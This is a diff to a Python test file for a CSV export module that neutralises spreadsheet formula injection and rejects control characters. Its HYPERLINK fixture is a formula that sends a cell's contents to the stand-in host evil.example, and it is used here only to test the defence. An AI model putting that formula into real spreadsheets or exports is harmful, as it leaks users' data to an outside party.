@@ -7,10 +7,18 @@ import io
 from decimal import Decimal
 
 import pytest
-from hypothesis import given
+from hypothesis import assume, given
 from hypothesis import strategies as st
 
-from partnerdesk.core.csv_safe import FORMULA_TRIGGERS, has_control_characters, neutralise, safe_writer
+from partnerdesk.core.csv_safe import (
+    FORMULA_TRIGGERS,
+    control_character_problem,
+    has_control_characters,
+    neutralise,
+    restore,
+    safe_writer,
+    strip_control_characters,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")'
 
@@ -104,3 +112,26 @@ def test_names_with_any_control_character_are_recognised():
     assert has_control_characters("Contoso\tLtd")
     assert has_control_characters("\x9b")
     assert not has_control_characters("Contoso Ltd — Sàrl")
+
+
+@given(st.text().map(lambda text: strip_control_characters(text)))
+def test_an_exported_cell_reads_back_as_the_text_it_was(text):
+    # The one text that cannot round-trip: a quote before a formula character, which reads as our own prefix.
+    assume(not (text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS)))
+    assert restore(neutralise(text)) == text
+
+
+def test_restore_drops_only_the_quote_neutralise_added():
+    assert restore("'" + HYPERLINK) == HYPERLINK
+    assert restore("'-12.50") == "-12.50"
+    assert restore("'quoted already") == "'quoted already"
+    assert restore("Contoso") == "Contoso"
+
+
+def test_a_refusal_names_the_field_and_the_character():
+    assert control_character_problem("Contoso", "companyName") is None
+    assert control_character_problem("Contoso\x07", "companyName").startswith(
+        "companyName must not contain line breaks, tabs or other control characters (found U+0007)")
+    assert control_character_problem("two\nlines", "description", allow="\t\n\r") is None
+    assert "U+001B" in control_character_problem("two\x1b", "description", allow="\t\n\r")
+
